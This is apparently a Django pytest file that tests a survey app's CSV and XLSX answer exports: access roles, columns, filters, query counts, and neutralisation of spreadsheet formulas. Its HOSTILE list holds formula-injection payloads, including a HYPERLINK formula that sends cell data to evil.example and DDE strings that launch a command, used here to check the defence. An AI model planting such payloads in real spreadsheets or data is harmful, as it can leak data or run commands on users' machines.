"""The answer exports (CSV and XLSX): who may download them, what is in them, the filters, the
query budget, and formula neutralisation (RELIABILITY.md SUR-10)."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from customers.models import Reason
from customers.tests.factories import CustomerFactory, SegmentFactory
from surveys.models import Answer, Question
from surveys.tests.factories import (
    DefectionEventFactory,
    InvitationFactory,
    ResponseFactory,
    SurveyFactory,
)
from winback.exports import FORMULA_TRIGGERS, csv_chunks, safe_cell, safe_xlsx_cell

pytestmark = pytest.mark.django_db

CSV_URL = reverse("surveys:answers_export_csv")
XLSX_URL = reverse("surveys:answers_export_xlsx")
BASE_COLUMNS = 9
# Every prefix a spreadsheet acts on (NUL cannot be stored in PostgreSQL text: tested below
# through the writers directly), with quotes and line breaks inside.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3 and "quoted", text',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 hidden behind a tab",
    "\r=1+1\nsecond line",
]


def _make_response(survey, *, text="Late delivery.", reason=Reason.PRICE, submitted=None, **customer):
    event = DefectionEventFactory(
        customer=CustomerFactory(status="defected", **customer),
        lost_revenue=Decimal("1500.00"),
        primary_reason=Reason.DELIVERY,
        fault="ours",
    )
    invitation = InvitationFactory(event=event, survey=survey, status="sent")
    response = ResponseFactory(
        invitation=invitation,
        stated_reason=reason,
        contact_consent=True,
        submitted_at=submitted or timezone.now(),
    )
    questions = {q.kind: q for q in survey.questions.all()}
    single = questions[Question.Kind.SINGLE_CHOICE]
    Answer.objects.create(response=response, question=single, option=single.options.get(reason=Reason.PRICE))
    multiple = questions[Question.Kind.MULTIPLE_CHOICE]
    for option in multiple.options.all():
        Answer.objects.create(response=response, question=multiple, option=option)
    Answer.objects.create(response=response, question=questions[Question.Kind.RATING], rating=2)
    Answer.objects.create(response=response, question=questions[Question.Kind.OPEN_TEXT], text=text)
    return response


@pytest.fixture
def survey():
    return SurveyFactory(is_active=False, title="Exit survey (test)")


def _csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:], newline="")))


def _xlsx_rows(response) -> list[list]:
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value  # nothing is stored as a formula
    return [list(row) for row in sheet.iter_rows(values_only=True)]


PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _unsafe(rows) -> int:
    """Text cells a spreadsheet would act on. A plain number such as -12.50 (written from a
    number) is read as that number, never as a formula."""
    return sum(
        1
        for row in rows
        for cell in row
        if isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)
    )


@pytest.mark.parametrize(
    ("role_user", "allowed"),
    [("manager", False), ("executive", True), ("administrator", True)],
    indirect=["role_user"],
)
def test_who_may_export_answers(client, role_user, allowed):
    client.force_login(role_user)
    for url in (CSV_URL, XLSX_URL):
        response = client.get(url)
        assert response.status_code == (200 if allowed else 403)
        if allowed:
            assert response["Cache-Control"] == "no-store"
            assert "attachment" in response["Content-Disposition"]


def test_anonymous_visitors_are_sent_to_sign_in(client):
    for url in (CSV_URL, XLSX_URL):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/")


def test_with_a_survey_chosen_there_is_one_row_per_response_and_one_column_per_question(executive_client, survey):
    segment = SegmentFactory(name="Wholesale")
    response = _make_response(survey, external_id="C-77", name="Olga Nowak", segment=segment)

    rows = _csv_rows(executive_client.get(CSV_URL, {"survey": survey.pk}))

    header, row = rows
    assert header[:BASE_COLUMNS] == [
        "Customer id",
        "Name",
        "Segment",
        "Language",
        "Submitted",
        "Reason given",
        "Confirmed reason",
        "Fault",
        "May be contacted",
    ]
    assert header[BASE_COLUMNS:] == [f"{q.position}. {q.text}" for q in survey.questions.order_by("position")]
    submitted = timezone.localtime(response.submitted_at).strftime("%Y-%m-%d %H:%M")
    assert row == [
        "C-77",
        "Olga Nowak",
        "Wholesale",
        "en",
        submitted,
        "Price / competitor offer",
        "Delivery",
        "Our fault",
        "yes",
        "Price / competitor offer",
        "Delivery; Billing",
        "2",
        "Late delivery.",
        "",
    ]


def test_without_a_survey_the_file_is_long_one_row_per_question_answered(admin_client, survey):
    _make_response(survey, external_id="C-1")
    other = SurveyFactory(is_active=False, questions=False, title="Old survey")
    InvitationFactory(survey=other)  # not answered: not exported
    ResponseFactory(invitation__survey=other, invitation__event__customer__external_id="C-2", stated_reason="")

    rows = _csv_rows(admin_client.get(CSV_URL))

    assert rows[0][BASE_COLUMNS:] == ["Survey", "Question", "Answer"]
    body = [(row[0], row[BASE_COLUMNS], row[BASE_COLUMNS + 1], row[BASE_COLUMNS + 2]) for row in rows[1:]]
    assert sorted(body) == sorted(
        [
            ("C-1", "Exit survey (test)", "Main reason?", "Price / competitor offer"),
            ("C-1", "Exit survey (test)", "What else?", "Delivery; Billing"),
            ("C-1", "Exit survey (test)", "Rate us", "2"),
            ("C-1", "Exit survey (test)", "What should we have done differently?", "Late delivery."),
            ("C-2", "Old survey", "", ""),
        ]
    )


def test_the_filters_select_by_period_survey_and_reason(executive_client, survey):
    now = timezone.now()
    _make_response(survey, external_id="IN", submitted=now - dt.timedelta(days=3))
    _make_response(survey, external_id="OLD", submitted=now - dt.timedelta(days=40))
    _make_response(survey, external_id="SERVICE", reason=Reason.SERVICE, submitted=now - dt.timedelta(days=3))
    other = SurveyFactory(is_active=False)
    _make_response(other, external_id="OTHER", submitted=now - dt.timedelta(days=3))
    today = timezone.localdate()
    params = {
        "from": f"{today - dt.timedelta(days=10):%Y-%m-%d}",
        "to": f"{today:%Y-%m-%d}",
        "survey": survey.pk,
        "reason": Reason.PRICE,
    }

    rows = _csv_rows(executive_client.get(CSV_URL, params))

    assert [row[0] for row in rows[1:]] == ["IN"]


def test_an_unknown_survey_is_a_404(executive_client):
    assert executive_client.get(CSV_URL, {"survey": 999999}).status_code == 404
    assert executive_client.get(CSV_URL, {"survey": "x"}).status_code == 404


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL])
def test_the_export_runs_a_fixed_number_of_queries(executive_client, survey, url, django_assert_max_num_queries):
    for number in range(25):
        _make_response(survey, external_id=f"Q{number}")
    for params in ({}, {"survey": survey.pk}):
        with django_assert_max_num_queries(7):
            response = executive_client.get(url, params)
            content = b"".join(response.streaming_content)
        assert content


def test_sur_10_every_cell_starting_a_formula_is_neutralised_in_csv_and_xlsx(executive_client, survey):
    segment = SegmentFactory(name="=cmd|' /C calc'!A0")
    for number, text in enumerate(HOSTILE):
        _make_response(survey, text=text, external_id=f"+{number}", name=HOSTILE[-1 - number], segment=segment)

    csv_response = executive_client.get(CSV_URL, {"survey": survey.pk})
    raw = b"".join(csv_response.streaming_content).decode("utf-8")
    csv_rows = list(csv.reader(io.StringIO(raw[1:], newline="")))
    xlsx_rows = _xlsx_rows(executive_client.get(XLSX_URL, {"survey": survey.pk}))
    long_rows = _csv_rows(executive_client.get(CSV_URL))

    assert len(csv_rows) == len(xlsx_rows) == len(HOSTILE) + 1  # the file re-parses to the same row count
    open_text_column = BASE_COLUMNS + 3
    expected = sorted("'" + text for text in HOSTILE)
    assert sorted(row[open_text_column] for row in csv_rows[1:]) == expected
    # XML parsers read a bare CR as a line feed; the cell still starts with the apostrophe.
    assert sorted(row[open_text_column] for row in xlsx_rows[1:]) == sorted(t.replace("\r", "\n") for t in expected)
    for rows in (csv_rows, xlsx_rows):
        assert {row[2] for row in rows[1:]} == {"'=cmd|' /C calc'!A0"}
        assert sorted(row[0] for row in rows[1:]) == sorted(f"'+{n}" for n in range(len(HOSTILE)))
    assert '"\'-2+3 and ""quoted"", text"' in raw  # RFC 4180: quoted, inner quotes doubled
    assert '"\'\r=1+1\nsecond line"' in raw  # line breaks stay inside one quoted field
    unsafe = _unsafe(csv_rows) + _unsafe(xlsx_rows) + _unsafe(long_rows)
    print(f"SUR-10: unsafe cells={unsafe} (csv rows={len(csv_rows)}, xlsx rows={len(xlsx_rows)})")
    assert unsafe == 0


def test_sur_10_the_writers_neutralise_every_prefix_including_nul():
    values = [*HOSTILE, "\0=1+1", "plain", "", None, 7, Decimal("-12.50")]
    raw = "".join(csv_chunks(["header"], ([value] for value in values), rows_per_chunk=2))
    rows = list(csv.reader(io.StringIO(raw, newline="")))

    assert len(rows) == len(values) + 1
    assert [row[0] for row in rows[1:]] == [
        *("'" + text for text in HOSTILE),
        "'\0=1+1",
        "plain",
        "",
        "",
        "7",
        "-12.50",  # written from a number: cannot be a formula
    ]
    assert safe_xlsx_cell("\0=1+1") == "'=1+1"  # XML cannot hold NUL; still starts with '
    assert safe_cell("=1") == "'=1"
    assert safe_cell(5) == 5
    print(f"SUR-10: unsafe cells={_unsafe(rows)} (writers, {len(values)} values)")
    assert _unsafe(rows) == 0


def test_the_customer_export_uses_the_same_neutraliser(admin_client):
    CustomerFactory(name="=1+2", company="@evil")
    content = b"".join(admin_client.get(reverse("customers:export")).streaming_content).decode()
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert _unsafe(rows) == 0
    assert any("'=1+2" in row for row in rows)
